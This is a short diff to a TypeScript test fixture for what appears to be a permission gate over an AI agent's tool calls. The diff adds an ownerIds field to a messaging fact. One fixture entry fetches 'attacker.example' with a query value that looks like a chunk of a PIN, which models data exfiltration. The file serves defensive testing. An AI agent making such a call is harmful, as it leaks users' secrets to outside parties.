@@ -26,7 +26,7 @@ const base = allow("low", { id: "url.public", message: "public" });
 const facts: ToolFacts[] = [
   { tool: "web_fetch", url: "https://site1.example/p/3", host: "site1.example", base },
   { tool: "web_fetch", url: "https://attacker.example/c?d=pin-1041-chunk", host: "attacker.example", base },
-  { tool: "message", to: "bob-7", channel: "telegram", text: "Here is the summary of today's news, in three lines.", toRequester: false, toOwner: false, knownRecipient: true, channelAvailable: true },
+  { tool: "message", to: "bob-7", channel: "telegram", text: "Here is the summary of today's news, in three lines.", toRequester: false, toOwner: false, ownerIds: ["owner-1"], knownRecipient: true, channelAvailable: true },
   { tool: "write", path: "summaries/today.md", base, secretPath: false, content: "A summary.", document: true, exists: false },
 ];
 const request = (f: ToolFacts): GateRequest => ({ principal: { kind: "owner", id: "telegram:1", channel: "telegram" }, ownerSession: true, grants: "all", flow, facts: f });
